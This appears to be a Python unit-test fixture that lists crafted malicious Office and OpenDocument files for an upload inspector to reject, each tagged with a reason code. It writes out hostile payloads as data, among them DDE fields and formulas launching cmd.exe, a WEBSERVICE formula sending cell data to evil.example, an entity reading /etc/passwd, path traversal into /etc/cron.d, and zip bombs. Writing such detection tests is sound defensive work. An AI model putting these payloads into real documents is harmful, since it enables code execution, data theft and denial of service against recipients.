"""Office files that must not be taken, each with the reason that its sender is told."""

import zipfile

from tests.unit.inspection import packages as p
from tests.unit.inspection.packages import OFFICE, WORD, XLINK, field

Hostile = dict[str, tuple[str, bytes, str]]
_EXTERNAL = {"external": True, "target": "https://evil.example/t"}
_DTD = '<!DOCTYPE a [<!ENTITY x "yyyyyyyy"><!ENTITY z "&x;&x;&x;&x;">]>'
_MIMETYPE = b"application/vnd.oasis.opendocument."
_DRAW = "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"
_SCRIPT = "urn:oasis:names:tc:opendocument:xmlns:script:1.0"
_POINT = "http://schemas.openxmlformats.org/drawingml/2006/main"


def _formula(text: str) -> bytes:
    return p.in_sheet(f'<row r="90"><c r="A90"><f>{text}</f><v>1</v></c></row>')


def _encrypted_flag(data: bytes) -> bytes:
    entries = p.entries_of(data)
    entries[-1].flags = 1
    return p.by_hand(*entries)


def _repeated(size: int) -> bytes:
    return b"<a>" + b" " * size + b"</a>"


HOSTILE: Hostile = {
    "macros in a Word document": (
        "a.docx",
        p.with_type(p.word(), part="word/vbaProject.bin", kind="application/vnd.ms-office.vbaProject"),
        "office.macros",
    ),
    "macros under a harmless content type": (
        "a.docx",
        p.with_parts(p.word(), {"word/vbaProject.bin": b"x"}),
        "office.macros",
    ),
    "macros under another name": (
        "a.docx",
        p.with_relationship(
            p.with_parts(p.word(), {"word/theme.bin": b"x"}),
            "word/_rels/document.xml.rels",
            kind="vbaProject",
            target="theme.bin",
        ),
        "office.macros",
    ),
    "macro-enabled document with a harmless name": (
        "a.docx",
        p.with_text(
            p.word(),
            "[Content_Types].xml",
            "vnd.openxmlformats-officedocument.wordprocessingml.document.main",
            "vnd.ms-word.document.macroEnabled.main",
        ),
        "office.macros",
    ),
    "macro-enabled workbook with its own name": (
        "a.xlsm",
        p.with_text(
            p.workbook(),
            "[Content_Types].xml",
            "vnd.openxmlformats-officedocument.spreadsheetml.sheet.main",
            "vnd.ms-excel.sheet.macroEnabled.main",
        ),
        "office.macros",
    ),
    "Excel 4 macro sheet": (
        "a.xlsx",
        p.with_type(
            p.workbook(),
            part="xl/macrosheets/sheet1.xml",
            kind="application/vnd.ms-excel.macrosheet+xml",
            body=b"<a/>",
        ),
        "office.macros",
    ),
    "OpenDocument macros": (
        "a.odt",
        p.with_parts(p.open_text(), {"Basic/Standard/Module1.xml": b"<a/>"}),
        "office.macros",
    ),
    "OpenDocument event": (
        "a.odt",
        p.with_text(
            p.open_text(), "content.xml", "An order", f'<script:event-listener xmlns:script="{_SCRIPT}"/>'
        ),
        "office.macros",
    ),
    "template from elsewhere": (
        "a.docx",
        p.with_relationship(p.word(), "word/_rels/settings.xml.rels", kind="attachedTemplate", **_EXTERNAL),
        "office.external",
    ),
    "picture from elsewhere": (
        "a.docx",
        p.with_relationship(p.word(), "word/_rels/document.xml.rels", kind="image", **_EXTERNAL),
        "office.external",
    ),
    "frame from elsewhere": (
        "a.docx",
        p.with_relationship(p.word(), "word/_rels/webSettings.xml.rels", kind="frame", **_EXTERNAL),
        "office.external",
    ),
    "OLE object from elsewhere": (
        "a.pptx",
        p.with_relationship(p.slides(), "ppt/slides/_rels/slide1.xml.rels", kind="oleObject", **_EXTERNAL),
        "office.external",
    ),
    "another workbook's cells": (
        "a.xlsx",
        p.with_relationship(
            p.with_parts(p.workbook(), {"xl/externalLinks/externalLink1.xml": b"<a/>"}),
            "xl/_rels/workbook.xml.rels",
            kind="externalLink",
            target="externalLinks/externalLink1.xml",
        ),
        "office.external",
    ),
    "data connection": (
        "a.xlsx",
        p.with_parts(p.workbook(), {"xl/connections.xml": b"<connections/>"}),
        "office.external",
    ),
    "add-in from the web": (
        "a.xlsx",
        p.with_relationship(p.workbook(), "_rels/.rels", kind="webextensiontaskpanes", target="xl/w.xml"),
        "office.external",
    ),
    "picture that a field includes": (
        "a.docx",
        field(' INCLUDEPICTURE "https://evil.example/x.png"'),
        "office.external",
    ),
    "link that is a script": (
        "a.docx",
        p.with_relationship(
            p.word(),
            "word/_rels/document.xml.rels",
            kind="hyperlink",
            target="JavaScript:alert(1)",
            external=True,
        ),
        "office.active",
    ),
    "OpenDocument picture from elsewhere": (
        "a.odt",
        p.with_text(
            p.open_text(),
            "content.xml",
            "An order",
            f'<draw:image xmlns:draw="{_DRAW}" xmlns:xlink="{XLINK}" xlink:href="https://evil.example/x.png"/>',
        ),
        "office.external",
    ),
    "OLE object": (
        "a.docx",
        p.with_type(
            p.word(),
            part="word/embeddings/oleObject1.bin",
            kind=f"{OFFICE}.oleObject",
            body=p.ole("Ole10Native"),
        ),
        "office.embedded",
    ),
    "OLE object under a picture's name": (
        "a.docx",
        p.with_parts(p.word(), {"word/media/image1.png": p.ole("Package")}),
        "office.embedded",
    ),
    "program under a picture's name": (
        "a.docx",
        p.with_parts(p.word(), {"word/media/image1.png": b"MZ" + b"\0" * 99}),
        "office.embedded",
    ),
    "document embedded as a package": (
        "a.docx",
        p.with_relationship(
            p.with_parts(p.word(), {"word/embeddings/a.xlsx": p.workbook()}),
            "word/_rels/document.xml.rels",
            kind="package",
            target="embeddings/a.xlsx",
        ),
        "office.embedded",
    ),
    "archive in a document": (
        "a.docx",
        p.with_parts(p.word(), {"word/media/image1.png": p.packed({"evil.exe": b"MZ"})}),
        "office.embedded",
    ),
    "web page in a document": (
        "a.docx",
        p.with_relationship(
            p.with_parts(p.word(), {"word/afchunk.dat": b"MIME-Version: 1.0"}),
            "word/_rels/document.xml.rels",
            kind="aFChunk",
            target="afchunk.dat",
        ),
        "office.embedded",
    ),
    "macros in a chart's workbook": (
        "a.pptx",
        p.with_parts(
            p.slides_with_chart(),
            {
                "ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": p.with_parts(
                    p.workbook(), {"xl/vbaProject.bin": b"x"}
                )
            },
        ),
        "office.macros",
    ),
    "ActiveX control": (
        "a.docx",
        p.with_type(
            p.word(),
            part="word/activeX/activeX1.xml",
            kind="application/vnd.ms-office.activeX+xml",
            body=b"<a/>",
        ),
        "office.active",
    ),
    "button that starts a program": (
        "a.pptx",
        p.with_text(
            p.slides(),
            "ppt/slides/slide1.xml",
            "<p:nvPr>",
            f'<p:nvPr><a:hlinkClick xmlns:a="{_POINT}" action="ppaction://program"/>',
        ),
        "office.active",
    ),
    "ribbon with callbacks": (
        "a.docx",
        p.with_relationship(p.word(), "_rels/.rels", kind="extensibility", target="customUI/customUI.xml"),
        "office.active",
    ),
    "DDE field": ("a.docx", field(" DDEAUTO c:\\\\windows\\\\cmd.exe /k calc"), "office.fields"),
    "DDE field in pieces": ("a.docx", field("DD", "EAU", "TO cmd"), "office.fields"),
    "DDE field as numbers": ("a.docx", field(" QUOTE 68 68 69 65 85 84 79 "), "office.fields"),
    "DDE field as an attribute": (
        "a.docx",
        p.in_body(f'<w:p xmlns:w="{WORD}"><w:fldSimple w:instr="dde cmd"/></w:p>'),
        "office.fields",
    ),
    "DDE formula": ("a.xlsx", _formula("cmd|'/C calc'!A0"), "office.fields"),
    "formula that calls the web": (
        "a.xlsx",
        _formula('1+WEBSERVICE("https://evil.example/"&amp;A1)'),
        "office.fields",
    ),
    "DDE link of a workbook": (
        "a.xlsx",
        p.with_parts(
            p.workbook(),
            {"xl/externalLinks/e.xml": b"<externalLink><ddeLink ddeService='cmd'/></externalLink>"},
        ),
        "office.fields",
    ),
    "OpenDocument DDE": (
        "a.odt",
        p.with_text(
            p.open_text(), "content.xml", "An order", '<office:dde-source office:dde-application="cmd"/>'
        ),
        "office.fields",
    ),
    "Word document locked with a password": (
        "a.docx",
        p.ole("EncryptionInfo", "EncryptedPackage"),
        "office.encrypted",
    ),
    "entries locked with a password": ("a.docx", _encrypted_flag(p.word()), "office.encrypted"),
    "locked OpenDocument": (
        "a.odt",
        p.with_parts(p.open_text(), {"META-INF/manifest.xml": b"<manifest><encryption-data/></manifest>"}),
        "office.encrypted",
    ),
    "old Excel file": ("a.xls", p.ole("Workbook"), "office.legacy"),
    "rich text named Word": ("a.docx", b"{\\rtf1\\ansi hello}", "office.legacy"),
    "Word 2003 XML": (
        "a.doc",
        b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w/>',
        "office.legacy",
    ),
    "XML bomb": (
        "a.docx",
        p.with_text(p.word(), "word/document.xml", "<w:document", f"{_DTD}<w:document"),
        "office.unsafe",
    ),
    "document type in UTF-16": (
        "a.docx",
        p.with_parts(
            p.word(),
            {
                "word/settings.xml": f'<?xml version="1.0" encoding="UTF-16"?>{_DTD}<a>&z;</a>'.encode(
                    "utf-16"
                )
            },
        ),
        "office.unsafe",
    ),
    "document type under a picture's name": (
        "a.docx",
        p.with_parts(p.word(), {"word/media/image1.svg": f"{_DTD}<svg/>".encode()}),
        "office.unsafe",
    ),
    "entity from a file": (
        "a.xlsx",
        p.with_parts(
            p.workbook(),
            {"xl/sharedStrings.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'},
        ),
        "office.unsafe",
    ),
    "zip bomb": (
        "a.docx",
        p.packed({**p.parts(p.word()), "word/media/image1.emf": b"\0" * 60_000_000}, level=9),
        "office.too_large",
    ),
    "zip bomb in XML": (
        "a.xlsx",
        p.packed({**p.parts(p.workbook()), "xl/worksheets/sheet1.xml": _repeated(60_000_000)}, level=9),
        "office.too_large",
    ),
    "zip bomb whose directory says that it is small": (
        "a.docx",
        p.by_hand(*p.entries_of(p.word()), p.Entry("word/media/image1.emf", b"\0" * 60_000_000, claimed=10)),
        "office.too_large",
    ),
    "bomb of parts that share their bytes": (
        "a.docx",
        p.by_hand(
            *(p.Entry(name, b"x" * 10) for name in ("[Content_Types].xml", "word/a.xml", "word/b.xml")),
            shared=True,
        ),
        "office.unsafe",
    ),
    "directory that says less than there is": (
        "a.docx",
        p.by_hand(*p.entries_of(p.word()), p.Entry("word/a.bin", b"\0" * 5000, claimed=10)),
        "office.unsafe",
    ),
    "header that names another part": (
        "a.docx",
        p.by_hand(*p.entries_of(p.word()), p.Entry("word/a.png", b"x", header_name="word/b.png")),
        "office.unsafe",
    ),
    "5,001 parts": (
        "a.docx",
        p.packed({**p.parts(p.word()), **{f"word/media/{n}": b"" for n in range(5001)}}),
        "office.too_large",
    ),
    "part above the folder": (
        "a.docx",
        p.with_parts(p.word(), {"../../etc/cron.d/evil": b"x"}),
        "office.unsafe",
    ),
    "part with an absolute path": ("a.docx", p.with_parts(p.word(), {"/etc/passwd": b"x"}), "office.unsafe"),
    "part with a drive": (
        "a.docx",
        p.by_hand(*p.entries_of(p.word()), p.Entry("C:\\autoexec.bat", b"x")),
        "office.unsafe",
    ),
    "part that is there twice": (
        "a.docx",
        p.by_hand(*p.entries_of(p.word()), p.Entry("word/document.xml", b"<w/>")),
        "office.unsafe",
    ),
    "part that is there twice in capitals": (
        "a.docx",
        p.with_parts(p.word(), {"word/DOCUMENT.xml": b"<w/>"}),
        "office.unsafe",
    ),
    "Word document and OpenDocument in one": (
        "a.docx",
        p.with_parts(p.word(), {"mimetype": _MIMETYPE + b"text"}),
        "office.unsafe",
    ),
    "part packed in a rare way": (
        "a.docx",
        p.packed(p.parts(p.word()), method=zipfile.ZIP_BZIP2),
        "office.unsafe",
    ),
    "program behind a Word document": ("a.docx", p.word() + b"MZ" + b"\0" * 80, "file.two_in_one"),
    "Word document cut off": ("a.docx", p.word()[: len(p.word()) // 2], "office.damaged"),
    "Word document whose bytes were changed": (
        "a.docx",
        p.by_hand(*p.entries_of(p.word()), p.Entry("word/a.png", b"picture", checksum=7)),
        "office.damaged",
    ),
    "Word document without its text": (
        "a.docx",
        p.packed({n: b for n, b in p.parts(p.word()).items() if n != "word/document.xml"}),
        "office.damaged",
    ),
    "Word document without a beginning": (
        "a.docx",
        p.packed({n: b for n, b in p.parts(p.word()).items() if n != "_rels/.rels"}),
        "office.damaged",
    ),
    "XML that does not end": (
        "a.docx",
        p.with_parts(p.word(), {"word/document.xml": b"<w:document>"}),
        "office.damaged",
    ),
    "OpenDocument without its text": (
        "a.odt",
        p.packed({n: b for n, b in p.parts(p.open_text()).items() if n != "content.xml"}),
        "office.damaged",
    ),
    "drawing of another program": (
        "a.docx",
        p.with_text(p.word(), "[Content_Types].xml", "wordprocessingml.document.main", "drawing.main"),
        "file.unknown",
    ),
    "OpenDocument database": (
        "a.odt",
        p.packed({**p.parts(p.open_text()), "mimetype": _MIMETYPE + b"base"}),
        "file.archive",
    ),
    "Java archive": (
        "a.docx",
        p.packed({"META-INF/MANIFEST.MF": b"Main-Class: Evil", "Evil.class": b"\xca\xfe\xba\xbe"}),
        "file.archive",
    ),
    "empty archive": ("a.docx", p.packed({}), "file.archive"),
    "workbook named document": ("a.docx", p.workbook(), "file.name"),
    "document named program": ("order.docx.exe", p.word(), "file.name"),
    "document named with another full stop": ("order.docx\uff0eexe", p.word(), "file.name"),
    "document named template": ("order.dotm", p.word(), "file.name"),
    "document named PDF": ("order.pdf", p.word(), "file.name"),
}
